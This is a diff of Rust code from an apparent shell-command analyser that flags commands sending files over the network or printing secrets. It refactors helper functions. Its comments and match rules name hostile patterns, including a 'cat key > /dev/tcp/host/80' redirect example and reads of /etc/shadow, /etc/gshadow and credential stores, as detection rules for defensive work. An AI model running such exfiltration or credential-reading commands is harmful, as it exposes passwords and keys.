@@ -6,12 +6,12 @@ use crate::builtin::paths;
 use crate::command::Command;
 use crate::zone::Target;
 
-pub(super) fn is_sender(name: &str) -> bool {
-    catalog::is(name, const { catalog::kind("sender") })
+pub(super) fn is_sender(command: &Command<'_>) -> bool {
+    command.is_kind(const { catalog::kind("sender") })
 }
 
-pub(super) fn is_printer(name: &str) -> bool {
-    catalog::is(name, const { catalog::kind("printer") })
+pub(super) fn is_printer(command: &Command<'_>) -> bool {
+    command.is_kind(const { catalog::kind("printer") })
 }
 
 /// Files whose content is sent: what follows `@`, `-T`, or is copied to another machine.
@@ -140,16 +140,15 @@ pub(super) fn sends_what_it_reads(command: &Command<'_>) -> bool {
         atom.span.start > own.start
             && atom.span.end <= own.end
             && atom.stage.pipeline != command.atom.stage.pipeline
-            && !picks(&atom.program())
+            && !catalog::is(&atom.program(), PICKER)
     };
     holes
         && !command.is(&["ssh", "gh", "aws", "az", "gcloud"])
         && command.analysis.atoms.iter().any(|atom| inside(atom) && tells_secret(command, atom))
 }
 
-fn picks(name: &str) -> bool {
-    catalog::is(name, const { catalog::kind("picker") })
-}
+/// Programs that print chosen lines of a file.
+const PICKER: catalog::Tags = catalog::kind("picker");
 
 /// Whether a file goes straight into a connection: `cat key > /dev/tcp/host/80`.
 pub(super) fn sends_by_redirect(command: &Command<'_>) -> bool {
@@ -266,7 +265,7 @@ pub(super) fn prints_secret(command: &Command<'_>) -> bool {
         }
         "secret-tool" => command.sub("", &["lookup|search"]),
         "getent" => command.sub("", &["shadow|gshadow"]),
-        name if picks(name) => {
+        _ if command.is_kind(PICKER) => {
             // Whoever picks from these files sees passwords and keys whatever is picked.
             let kept = |target: &Target| {
                 matches!(target.path.as_str(), "/etc/shadow" | "/etc/gshadow" | "/etc/master.passwd")
@@ -280,7 +279,7 @@ pub(super) fn prints_secret(command: &Command<'_>) -> bool {
                     .map(|arg| command.target(&arg.text))
                     .any(|t| kept(&t))
         }
-        name if is_printer(name) => {
+        _ if is_printer(command) => {
             shows_output(command)
                 && (command
                     .operands("-n -c -w -d -s -j -N -l --lines --bytes")
